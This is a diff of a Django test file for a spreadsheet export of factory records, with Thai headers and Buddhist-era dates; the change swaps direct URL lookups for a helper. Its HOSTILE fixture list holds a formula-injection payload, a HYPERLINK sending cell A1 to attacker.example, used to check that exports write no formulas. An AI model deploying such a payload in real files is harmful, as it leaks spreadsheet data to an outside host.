@@ -6,10 +6,9 @@ import datetime as dt
 import io
 import zipfile
 
-from django.urls import reverse
 from openpyxl import load_workbook
 
-from tests.builders import numbered_factory
+from tests.builders import exported_factories, numbered_factory
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?x="&A1,"คลิก")',
@@ -23,8 +22,7 @@ def test_it_writes_what_people_typed_as_text_never_as_a_formula(client, member):
     for number, name in enumerate(HOSTILE, start=1):
         numbered_factory(f"1057000000{number:04d}", name=name, operator_name="=1+2")
     client.force_login(member)
-    response = client.get(reverse("factories:export"))
-    data = response.content
+    data = exported_factories(client).content
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
@@ -37,7 +35,7 @@ def test_it_writes_what_people_typed_as_text_never_as_a_formula(client, member):
 def test_it_writes_dates_as_dates_shown_in_the_buddhist_era(client, member):
     numbered_factory("10570000000001", licence_date=dt.date(2012, 6, 7))
     client.force_login(member)
-    sheet = load_workbook(io.BytesIO(client.get(reverse("factories:export")).content)).active
+    sheet = load_workbook(io.BytesIO(exported_factories(client).content)).active
     header = [cell.value for cell in sheet[1]]
     cell = sheet.cell(row=2, column=header.index("วันที่ได้รับอนุญาต") + 1)
     assert cell.is_date and cell.value.date() == dt.date(2012, 6, 7)  # Excel sorts it as a date
